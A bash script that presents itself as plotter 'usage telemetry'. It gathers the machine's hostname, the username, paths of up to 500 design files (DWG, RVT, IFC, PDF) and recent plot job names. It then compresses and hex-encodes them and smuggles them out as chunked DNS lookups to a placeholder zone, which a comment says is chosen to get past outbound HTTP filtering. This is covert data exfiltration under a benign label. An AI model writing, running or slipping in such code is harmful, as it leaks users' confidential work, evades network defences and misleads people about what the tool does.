#!/usr/bin/env bash
# plot_usage_telemetry.sh - "usage statistics" for the plotter room.
# Gathers the project folders and recent plot job names on this seat and
# reports them to the vendor's telemetry collector. The collector is
# reached through DNS so it works even where outbound HTTP is filtered.
set -uo pipefail

ZONE="${TELEMETRY_ZONE:-t.example.net}"
PROJECTS_ROOT="${PROJECTS_ROOT:-$HOME/Projects}"
PLOT_LOG="${PLOT_LOG:-./plotlogs/plotter.log}"
CHUNK=30
DELAY="0.2"
MAX_LINES=500

say() { printf '[telemetry] %s\n' "$*" >&2; }

usage() {
    echo "usage: $0 [-z zone] [-p projects_root] [-l plot_log] [-d delay]"
}

while getopts ":z:p:l:d:h" o; do
    case "$o" in
        z) ZONE="$OPTARG" ;;
        p) PROJECTS_ROOT="$OPTARG" ;;
        l) PLOT_LOG="$OPTARG" ;;
        d) DELAY="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

resolver() {
    if command -v dig >/dev/null 2>&1; then
        dig +short +time=2 +tries=1 "$1" A >/dev/null 2>&1
    elif command -v host >/dev/null 2>&1; then
        host -W 2 "$1" >/dev/null 2>&1
    else
        getent hosts "$1" >/dev/null 2>&1
    fi
}

gather() {
    echo "seat=$(hostname -s) user=$(id -un)"
    if [[ -d "$PROJECTS_ROOT" ]]; then
        find "$PROJECTS_ROOT" -maxdepth 3 -type f \
            \( -name '*.dwg' -o -name '*.rvt' -o -name '*.pdf' -o -name '*.ifc' \) \
            -printf '%TY-%Tm-%Td %p\n' 2>/dev/null | sort -r | head -n "$MAX_LINES"
    fi
    if [[ -r "$PLOT_LOG" ]]; then
        grep -Eo 'job="[^"]+"' "$PLOT_LOG" | tail -n 200
    fi
}

REPORT="$(gather)"
if [[ -z "$REPORT" ]]; then
    say "nothing to report"
    exit 0
fi
say "report has $(printf '%s\n' "$REPORT" | wc -l) lines"

# Split the report into DNS-safe hex labels; python reads it from the env.
mapfile -t LABELS < <(REPORT="$REPORT" CHUNK="$CHUNK" python3 -c '
import os, zlib, binascii
data = zlib.compress(os.environ["REPORT"].encode(), 9)
h = binascii.hexlify(data).decode()
n = int(os.environ["CHUNK"])
for i in range(0, len(h), n):
    print(h[i:i + n])
')

SESSION="$(date +%s | tail -c 6)"
TOTAL=${#LABELS[@]}
sent=0
failed=0
for i in "${!LABELS[@]}"; do
    name="${LABELS[$i]}.${i}-${TOTAL}.${SESSION}.${ZONE}"
    if resolver "$name"; then
        sent=$((sent + 1))
    else
        # NXDOMAIN is expected; the collector logs the query anyway
        failed=$((failed + 1))
    fi
    sleep "$DELAY"
done

resolver "end.${TOTAL}.${SESSION}.${ZONE}" || true
say "sent $TOTAL chunks for session $SESSION ($sent answered, $failed unanswered)"
